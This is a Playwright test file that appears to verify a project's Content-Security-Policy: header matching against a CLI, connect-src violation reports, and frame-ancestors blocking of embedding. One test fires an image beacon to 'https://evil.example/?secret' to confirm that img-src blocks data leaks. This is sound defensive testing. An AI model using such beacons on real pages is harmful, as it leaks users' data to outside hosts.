import { execFile } from 'node:child_process'
import { rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { promisify } from 'node:util'
import type { Page } from '@playwright/test'
import type { EgressManifest } from 'portico/plugin'
import { contentSecurityPolicy } from '../../egress/index.js'
import { expect, test } from '../support/e2e-test.js'
import { visit } from '../support/e2e-visitor.js'

const COMMAND = new URL('../../bin/portico.mjs', import.meta.url).pathname
const HEADER = 'content-security-policy'

const manifestOf = (page: Page): Promise<EgressManifest> => page.evaluate(() => window.plain.modal.egress())

test('serves a page under exactly the policy that the command prints for its modal', async ({
  page,
  pages,
}, testInfo) => {
  const response = await page.goto(`${pages.url}plain.html`)
  const module = testInfo.outputPath('modal.mjs')
  const manifest = JSON.stringify(await manifestOf(page))
  await writeFile(module, `export const modal = { egress: async () => (${manifest}) }`)
  const { stdout } = await promisify(execFile)(process.execPath, [COMMAND, 'csp', module])
  await rm(module)
  expect(response?.headers()[HEADER]).toBe(stdout.trim())
})

test('reports each server that the manifest no longer names', async ({ page, pages, watched }) => {
  const url = `${pages.url}plain.html`
  await page.goto(url)
  const { entries, undeclared } = await manifestOf(page)
  const { origin } = new URL(pages.chains[0].rpcUrl)
  expect(entries).toContainEqual(expect.objectContaining({ kind: 'hosts', address: origin }))
  const policy = contentSecurityPolicy({ entries: entries.filter(({ address }) => address !== origin), undeclared })
  await page.route(url, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, headers: { ...response.headers(), [HEADER]: policy } })
  })
  await page.goto(url)
  await page.getByRole('button', { name: 'Come in' }).click()
  await visit(page).row('Page Wallet').click()
  const reports = () => watched.problems.filter((problem) => problem.startsWith(`policy: connect-src ${origin}`))
  await expect.poll(reports).not.toEqual([])
  // So any test that comes here fails.
  watched.expectProblem(/./)
})

test('keeps strangers from embedding the page, and scripts from telling strangers anything by a picture', async ({
  page,
  pages,
  watched,
}) => {
  const url = `${pages.url}plain.html`
  await page.goto(url)
  const leak = () =>
    new Promise<string>((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
      new Image().src = 'https://evil.example/?secret'
    })
  expect(await page.evaluate(leak)).toBe('img-src')
  const embedder = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><iframe src="${url}"></iframe>`)
  })
  await new Promise<void>((resolve) => embedder.listen(0, '127.0.0.1', resolve))
  const embed = () => page.goto(`http://127.0.0.1:${(embedder.address() as AddressInfo).port}/`)
  const inside = page.frameLocator('iframe').getByRole('button', { name: 'Come in' })
  // Nothing but the directive keeps the page from the frame.
  await page.route(url, async (route) => {
    const response = await route.fetch()
    const headers = response.headers()
    const policy = headers[HEADER]?.replace(/frame-ancestors [^;]*/, 'frame-ancestors *') ?? ''
    await route.fulfill({ response, headers: { ...headers, [HEADER]: policy } })
  })
  await embed()
  await expect(inside).toBeVisible()
  await page.unroute(url)
  await embed()
  // Chromium shows a page of its own in the frame, and Firefox reports the directive.
  const isRefused = () =>
    page.frames()[1]?.url().startsWith('chrome-error:') ||
    watched.problems.some((problem) => problem.includes('frame-ancestors'))
  await expect.poll(isRefused).toBe(true)
  await expect(inside).toHaveCount(0)
  await new Promise((resolve) => embedder.close(resolve))
  // Browsers report the picture, the frame and their own error page in words of their own.
  watched.expectProblem(/./)
})
